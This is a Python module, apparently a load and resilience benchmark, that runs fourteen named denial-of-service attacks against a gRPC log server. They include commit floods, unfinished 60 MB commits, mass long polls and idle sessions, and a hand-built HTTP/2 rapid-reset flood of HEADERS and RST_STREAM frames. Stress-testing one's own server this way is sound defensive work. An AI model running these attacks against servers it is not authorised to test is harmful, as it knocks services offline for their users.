"""An attacker of a server: `python -m bench.attacker HOST:PORT TOKEN ATTACK`, until it is killed.

Each attack repeats calls that its token allows, or such as need no token. Each was once enough to
stop a server, or to fill its memory.
"""

import asyncio
import os
import struct
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine, Iterator, Sequence
from contextlib import closing, suppress
from itertools import count
from typing import Any

import grpc
from google.protobuf.any_pb2 import Any as AnyMessage
from google.protobuf.message import Message

from replay.server.proto import log_pb2 as pb
from replay.server.proto.replaypb_pb2 import RunRequest

OWN = "mine"  # its namespace
LOG = "/replay.log.v1.Log/"
RUN = "/replaypb.Replay/RunWorkflow"
LINKS = 10  # connections of an attack by many calls
MIB = 2**20
PART = 2_500  # events: a request may have 3,000 parts
OPTIONS = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_receive_message_length", -1)]
NUMBERS = count()


class Connection:
    """One connection with the server, on which calls are made as bytes."""

    def __init__(self, address: str, token: str) -> None:
        self.channel = grpc.aio.insecure_channel(address, OPTIONS)
        self.metadata = (("authorization", f"Bearer {token}"),)
        self.session = ""

    def ask(self, path: str, request: Message) -> Awaitable[bytes]:
        method: Any = self.channel.unary_unary(path)
        call: Awaitable[bytes] = method(request.SerializeToString(), metadata=self.metadata)
        return call

    def stream(self, path: str, request: bytes = b"") -> Any:
        method: Any = self.channel.unary_stream(path)
        return method(request, metadata=self.metadata)

    async def open(self) -> pb.OpenReply:
        """Begin a session, which lasts as long as the connection."""
        self._held = self.stream(f"{LOG}Open")
        reply = pb.OpenReply.FromString(await self._held.read())
        self.session = reply.session
        return reply

    async def commit(self, parts: Sequence[pb.CommitRequest]) -> None:
        async def sent() -> AsyncIterator[bytes]:
            for part in parts:
                yield part.SerializeToString()

        method: Any = self.channel.stream_stream(f"{LOG}Commit")
        await method(sent(), metadata=self.metadata).read()


class Attacker:
    def __init__(self, address: str, token: str) -> None:
        self.address, self.token = address, token

    def connect(self) -> Connection:
        return Connection(self.address, self.token)

    def several(self) -> list[Connection]:
        return [self.connect() for _ in range(LINKS)]

    async def in_session(self) -> Connection:
        connection = self.connect()
        await connection.open()
        return connection

    # Commits.

    async def commits(self, sessions: int, events: int, *, same: bool = False) -> None:
        """Sessions that add so many events at a time, or try to add the same again and again."""

        async def session(number: int) -> None:
            link = await self.in_session()
            while True:
                name = f"same-{number}" if same else f"run-{next(NUMBERS)}"
                with suppress(grpc.aio.AioRpcError):
                    await link.commit(list(parts(link.session, name, events)))

        await asyncio.gather(*map(session, range(sessions)))

    async def cancelled(self, events: int) -> None:
        """Eight commits at a time, which the client cancels when they have just begun."""
        link = await self.in_session()
        while True:
            each = list(parts(link.session, f"run-{next(NUMBERS)}", events))
            calls = [asyncio.create_task(link.commit(each)) for _ in range(8)]
            await asyncio.wait(calls, timeout=0.2)
            for call in calls:
                call.cancel()
            await asyncio.gather(*calls, return_exceptions=True)

    async def unfinished(self) -> None:
        """Commits of 60 MB whose end never comes."""
        link = await self.in_session()
        part = pb.CommitRequest(session=link.session, more=True)
        part.events.add(type=1, key=f"{OWN}/w/r/0", message=bytes(4 * MIB - 200 * 1024))
        await self.again(20, lambda _: link.commit([part] * 15))

    # Reads and waits.

    async def reads(self) -> None:
        """Eight readers of 8 MiB at a time."""
        link = await self.in_session()
        message = AnyMessage(type_url="type.googleapis.com/x.Y", value=bytes(MIB))
        for number in range(24):
            request = RunRequest(key=f"{OWN}/large/{number}/0", message=message)
            await link.ask(RUN, request)
        request_all = pb.ReadRequest(session=link.session, limit=1000)
        await self.again(8, lambda _: link.ask(f"{LOG}Read", request_all))

    async def calls(self, number: int) -> None:
        """Ordinary calls, as many at a time as a connection lets through."""
        links = self.several()

        async def start(each: int) -> None:
            request = RunRequest(key=f"{OWN}/w/run-{next(NUMBERS)}/0")
            await links[each % LINKS].ask(RUN, request)

        await self.again(number, start)

    async def polls(self, number: int) -> None:
        """Reads that wait for an event that does not come."""
        links = self.several()
        end = (await links[0].open()).end + MIB
        wait = pb.ReadRequest(session=links[0].session, after=end, limit=10, wait_ms=30_000)
        await self.again(number, lambda each: links[each % LINKS].ask(f"{LOG}Read", wait))

    async def watches(self, number: int) -> None:
        """Streams of the health service."""
        links = self.several()

        async def watch(each: int) -> None:
            async for _ in links[each % LINKS].stream("/grpc.health.v1.Health/Watch"):
                pass

        await self.again(number, watch)

    async def sessions(self, number: int) -> None:
        """Idle sessions that wait for news."""

        async def session(_: int) -> None:
            link = self.connect()
            after = (await link.open()).end
            while True:
                wait = pb.ReadRequest(session=link.session, after=after, limit=10, wait_ms=10_000)
                reply = pb.ReadReply.FromString(await link.ask(f"{LOG}Read", wait))
                after = max(after, reply.end)

        await self.again(number, session)

    async def claims(self) -> None:
        """Claims of consumers that nobody else has."""
        link = await self.in_session()

        async def claim(_: int) -> None:
            consumer = f"workflow/{OWN}/{next(NUMBERS)}"
            await link.ask(f"{LOG}Claim", pb.ClaimRequest(session=link.session, consumer=consumer))

        await self.again(16, claim)

    # Without a token.

    async def strangers(self, number: int) -> None:
        """Calls with a token that is not known."""
        links = Attacker(self.address, "unknown").several()
        request = pb.LocateRequest(namespace=OWN)
        await self.again(number, lambda each: links[each % LINKS].ask(f"{LOG}Locate", request))

    async def resets(self) -> None:
        """Calls that are reset as soon as they have begun, 50 at a time."""
        host, _, port = self.address.rpartition(":")
        while True:
            reader, writer = await asyncio.open_connection(host, int(port))
            with closing(writer), suppress(ConnectionError):
                writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
                drain = asyncio.create_task(reader.read(-1))
                for first in count(1, 100):
                    if drain.done():  # the server has had enough of this connection
                        break
                    writer.write(b"".join(map(begun_and_reset, range(first, first + 100, 2))))
                    await writer.drain()
                    await asyncio.sleep(0.002)

    async def again(self, number: int, attack: Callable[[int], Awaitable[object]]) -> None:
        """So many of one kind at a time, each again when it has ended. They begin in groups."""

        async def one(each: int) -> None:
            while True:
                with suppress(grpc.aio.AioRpcError):
                    await attack(each)

        tasks = []
        for each in range(number):
            tasks.append(asyncio.create_task(one(each)))
            if each % 250 == 249:
                await asyncio.sleep(0.1)
        await asyncio.gather(*tasks)


def parts(session: str, run: str, events: int) -> Iterator[pb.CommitRequest]:
    """A commit of so many events."""
    for first in range(0, events, PART):
        last = min(first + PART, events)
        request = pb.CommitRequest(session=session, more=last < events)
        for number in range(first, last):
            request.events.add(type=1, key=f"{OWN}/{run}/{number}/0")
        yield request


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    head = struct.pack(">I", len(payload))[1:] + bytes([kind, flags])
    return head + struct.pack(">I", stream) + payload


def field(name: str, value: str) -> bytes:
    """A header of HTTP/2, in full."""
    return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


HEADERS = b"".join(
    field(name, value)
    for name, value in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", f"{LOG}Locate"),
        (":authority", "x"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    )
)


def begun_and_reset(stream: int) -> bytes:
    return frame(1, 4, stream, HEADERS) + frame(3, 0, stream, struct.pack(">I", 8))


#: The attacks by name, and what each does, for the table.
ATTACKS: dict[str, tuple[str, Callable[[Attacker], Coroutine[Any, Any, None]]]] = {
    "commits": ("commits of 5,000 events", lambda a: a.commits(1, 5_000)),
    "more-commits": ("the same in 8 sessions", lambda a: a.commits(8, 5_000)),
    "small-commits": ("commits of 100 events in 8 sessions", lambda a: a.commits(8, 100)),
    "same-commits": ("commits of what is there", lambda a: a.commits(4, 5_000, same=True)),
    "cancelled": ("8 commits at a time, cancelled", lambda a: a.cancelled(5_000)),
    "unfinished": ("20 commits of 60 MB without an end", lambda a: a.unfinished()),
    "reads": ("8 readers of 8 MiB", lambda a: a.reads()),
    "calls": ("2,000 runs started at a time", lambda a: a.calls(2_000)),
    "polls": ("10,000 long polls", lambda a: a.polls(10_000)),
    "watches": ("2,000 watches of health", lambda a: a.watches(2_000)),
    "sessions": ("400 idle sessions", lambda a: a.sessions(400)),
    "claims": ("claims without end", lambda a: a.claims()),
    "strangers": ("2,000 calls at a time, with an unknown token", lambda a: a.strangers(2_000)),
    "resets": ("calls reset at once, without a token", lambda a: a.resets()),
}


if __name__ == "__main__":
    os.nice(10)  # else it would take the CPU itself that a real one has on its own machine
    where, token, attack = sys.argv[1:]
    asyncio.run(ATTACKS[attack][1](Attacker(where, token)))
